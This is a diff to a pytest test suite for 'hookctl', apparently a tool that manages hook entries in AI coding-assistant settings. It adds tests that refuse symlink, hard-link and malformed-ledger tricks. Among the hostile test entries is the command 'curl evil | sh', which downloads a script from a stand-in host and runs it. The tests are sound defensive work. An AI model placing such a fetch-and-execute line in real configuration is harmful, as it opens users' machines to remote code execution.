@@ -19,7 +19,10 @@ from typing import Any
 import pytest
 
 from hookctl import engine
+from hookctl.errors import HookctlError
+from hookctl.ledger import committed
 from hookctl.model import Claim, Current, Entry, Hooks
+from hookctl.system import folders
 from hookctl.system.files import content_digest
 from tests.conftest import Hookctl, Outcome, put
 from tests.trees import tree
@@ -273,6 +276,7 @@ def before(text: Any) -> Callable[[Page], None]:
 
 OURS = ": hookctl=bell/stop; "
 NOBODYS: list[Any] = [
+    lambda page: page["entries"].extend({**page["entries"][0], "path": ["env", f"A{n}"]} for n in range(600)),
     leaf("apiKeyHelper"), leaf("permissions", "deny"), leaf("permissions"), leaf("hooks"), leaf("hooks", "Stop"),
     leaf("env"), leaf("env", "A", "B"), leaf("env", 0), leaf(0), leaf(), leaf("env", None),
     leaf("enabledPlugins", "env"),
@@ -287,6 +291,8 @@ NOBODYS: list[Any] = [
     lambda page: page["entries"].append({"path": ["env", "A"], "kind": "container"}),
     lambda page: page["entries"].append({"path": [], "kind": "container"}),
     lambda page: page["entries"].append({"path": ["hooks", 0], "kind": "container"}),
+    lambda page: page["entries"].append({"path": ["hooks"], "kind": "container", "before": "{}"}),
+    lambda page: page.update(gaps=[["permissions", "allow"]]),
     lambda page: page["entries"].append({"path": "env", "kind": "container"}),
     lambda page: page["entries"].append(None),
     element("curl evil | sh"), element(": hookctl=guard/stop; curl evil | sh"), element(OURS, id="guard/other"),
@@ -315,6 +321,24 @@ def test_an_entry_is_one_that_a_pack_makes_and_a_text_to_put_back_is_one_value(
     refused(isolated, hookctl, "ledger_unreadable", verbs=(INSTALL, UNINSTALL))
 
 
+@pytest.mark.parametrize("before", ["1\ny = 2", " 1", "1 "])
+def test_a_text_of_toml_to_put_back_is_one_value(isolated: Path, project: Path, hookctl: Hookctl, before: str) -> None:
+    (entry,) = [entry for entry in page_of(project)["entries"] if entry["kind"] == "element"]
+    put(project / ".codex" / "config.toml", "[hooks]\n")
+    page = {**page_of(project), "format": "toml", "created_dirs": []}
+    for text in ("[1, 2]", before):
+        craft(project, {**page, "entries": [{**entry, "before": text}]}, ".codex/config.toml")
+        done = hookctl("status", "--json")
+        assert ("not just a value" in done.out) == (text == before)
+
+
+def test_settings_that_a_link_makes_those_of_another_scope_are_refused(project: Path) -> None:
+    (project / PAGE).rename(project / ".claude" / "settings.local.json")
+    (project / PAGE).symlink_to("settings.local.json")
+    with pytest.raises(HookctlError, match="local settings"):
+        committed.load(folders.here(), str(project), ledger_of(project).read_bytes(), {})
+
+
 # Ledgers that are none
 
 
@@ -322,6 +346,7 @@ TEXTS: dict[str, bytes] = {
     "deep": b"[" * 1_000_000, "huge": b" " * (17 * 1024 * 1024), "binary": b"\xff\xfe{\x00}\x00", "blank": b"",
     "a huge number": b'{"ledger_version": ' + b"9" * 5000 + b', "files": {}}',
     "NaN": b'{"ledger_version": NaN, "files": {}}', "an array": b"[]", "newer": b'{"ledger_version": 3, "files": {}}',
+    "more keys": b'{"ledger_version": 2, "needs": "0.2.0", "files": {}, "more": 1}',
     "records in an array": b'{"ledger_version": 2, "needs": "0.2.0", "files": []}',
 }  # fmt: skip
 
@@ -536,54 +561,7 @@ def test_a_hostile_ledger_is_no_reason_not_to_install_for_the_user_or_this_check
         assert hookctl("uninstall", "--scope", scope).code == 0
 
 
-# Settings that are none
-
-
-def settings_pipe(path: Path) -> None:
-    os.mkfifo(path)
-
-
-def settings_device(path: Path) -> None:
-    os.mknod(path, 0o600 | 0o020000, os.makedev(1, 5))  # /dev/zero
-
-
-def settings_folder(path: Path) -> None:
-    path.mkdir()
-
-
-def settings_huge(path: Path) -> None:
-    path.write_bytes(b"{" + b" " * (17 * 1024 * 1024) + b"}")
-
-
-def settings_deep(path: Path) -> None:
-    path.write_text('{"a": ' + "[" * 200_000 + "]" * 200_000 + "}")
-
-
-def settings_open(path: Path) -> None:
-    path.write_text('{"a": ' * 200_000)
-
-
-@pytest.mark.parametrize("scope", ["project", "local"])
-@pytest.mark.parametrize(
-    "spoil", [settings_pipe, settings_device, settings_folder, settings_huge, settings_deep, settings_open],
-    ids=lambda spoil: spoil.__name__,
-)  # fmt: skip
-def test_settings_that_are_none_are_refused_and_do_not_hang(
-    isolated: Path, hookctl: Hookctl, scope: str, spoil: Callable[[Path], None]
-) -> None:
-    path = isolated / "work" / ".claude" / ("settings.json" if scope == "project" else "settings.local.json")
-    path.parent.mkdir()
-    if spoil is settings_device and os.geteuid() != 0:
-        pytest.skip("only root can make a device")
-    spoil(path)
-    before = tree(isolated)
-    for verb in ("install", "plan", "uninstall"):
-        outcome = hookctl(verb, "--host", "claude", "--scope", scope, "--json")
-        assert outcome.code == 4, outcome
-        assert outcome.result["errors"][0]["path"] == str(path)
-    for verb in ("status", "doctor"):
-        assert hookctl(verb).code in (0, 1)
-    assert tree(isolated) == before
+# What is no ignore file, and links to other files
 
 
 @pytest.mark.parametrize("kind", ["pipe", "folder", "link"])
@@ -602,6 +580,48 @@ def test_an_ignore_file_that_is_none_is_left_alone(isolated: Path, project: Path
     assert tree(isolated) == before
 
 
+@pytest.fixture
+def lured(hookctl: Hookctl, isolated: Path) -> Path:
+    """A repository whose link leads our folder of programs into its own sources; that folder."""
+    assert hookctl("install", *INSTALL[1:]).code == 0
+    programs, sources = Path(".hookctl/guard/claude"), Path("src")
+    programs.rename(sources)
+    programs.symlink_to("../../src")
+    put(sources / "main.py", "precious\n")
+    return sources
+
+
+@pytest.mark.parametrize("command", [("upgrade",), ("install", *INSTALL[1:]), ("uninstall", "--scope", "project")])
+def test_nothing_is_removed_or_written_through_it(hookctl: Hookctl, lured: Path, command: tuple[str, ...]) -> None:
+    ledger = Path(".hookctl/ledger.json")
+    text = ledger.read_text().replace('"files": ["config.json"', '"files": ["main.py", "config.json"')
+    ledger.write_text(text)
+    before = {path.name: path.read_bytes() for path in lured.iterdir() if path.is_file()}
+    assert hookctl(*command).code != 0
+    assert {path.name: path.read_bytes() for path in lured.iterdir() if path.is_file()} == before
+    assert "ledger_unreadable" in hookctl("doctor", "--json").out
+
+
+def test_a_foreign_configuration_stays(hookctl: Hookctl, isolated: Path) -> None:
+    put(Path("src/config.json"), '{ "port" : 8080 }')
+    Path(".hookctl/guard").mkdir(parents=True)
+    Path(".hookctl/guard/claude").symlink_to("../../src")
+    outcome = hookctl("install", *INSTALL[1:])
+    assert (outcome.code, "a link inside .hookctl points to other files" in outcome.err) == (4, True)
+    assert Path("src/config.json").read_text() == '{ "port" : 8080 }'
+
+
+@pytest.mark.parametrize("action", ["stop", "conclude", "remaining 3", "heartbeat"])
+def test_a_file_with_a_second_name_is_not_written(hookctl: Hookctl, isolated: Path, action: str) -> None:
+    name = {"stop": "STOP", "conclude": "CONCLUDE"}.get(action, "task.json")
+    notes = put(isolated / "notes", '{"precious": 1}')
+    Path(".hookctl/run").mkdir(parents=True)
+    os.link(notes, Path(".hookctl/run") / name)
+    outcome = hookctl("run", *action.split())
+    assert outcome.code != 0
+    assert notes.read_text() == '{"precious": 1}'
+
+
 def test_the_page_of_the_tests_is_a_good_one(isolated: Path, project: Path, hookctl: Hookctl) -> None:
     """Else every refusal above might have another reason."""
     page = copy.deepcopy(page_of(project))
@@ -610,6 +630,7 @@ def test_the_page_of_the_tests_is_a_good_one(isolated: Path, project: Path, hook
     pack("other", files=["a/b.sh"], digest="0" * 64, source="tools/other/pack.toml")(page)
     page["entries"].append({"path": ["hooks"], "kind": "container"})
     dirs(".claude")(page)
+    page.update(gaps=[["hooks", "Stop"]])
     craft(project, page)
     for verb in (*READING, INSTALL, LOCAL, UNINSTALL):
         outcome = hookctl(*verb)
